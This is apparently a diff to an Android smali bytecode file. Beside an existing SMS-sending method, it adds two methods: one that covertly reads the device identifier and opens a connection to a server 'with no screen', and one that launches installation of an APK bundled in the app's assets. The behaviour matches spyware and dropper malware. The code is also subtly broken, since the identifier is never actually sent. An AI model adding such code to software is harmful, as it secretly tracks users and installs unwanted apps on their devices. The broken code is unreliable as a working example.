@@ -26,3 +26,23 @@
     invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
     return-void
 .end method
+
+# reports the device identifier to a server (no screen)
+.method public report(Landroid/telephony/TelephonyManager;Ljava/net/URL;)V
+    .locals 1
+    invoke-virtual {p1}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
+    invoke-virtual {p2}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
+    return-void
+.end method
+
+# installs the app it carries in assets/update.dat (copied out elsewhere)
+.method public install(Landroid/content/Context;Landroid/net/Uri;)V
+    .locals 2
+    new-instance v0, Landroid/content/Intent;
+    const-string v1, "android.intent.action.VIEW"
+    invoke-direct {v0, v1}, Landroid/content/Intent;-><init>(Ljava/lang/String;)V
+    const-string v1, "application/vnd.android.package-archive"
+    invoke-virtual {v0, p2, v1}, Landroid/content/Intent;->setDataAndType(Landroid/net/Uri;Ljava/lang/String;)Landroid/content/Intent;
+    invoke-virtual {p1, v0}, Landroid/content/Context;->startActivity(Landroid/content/Intent;)V
+    return-void
+.end method
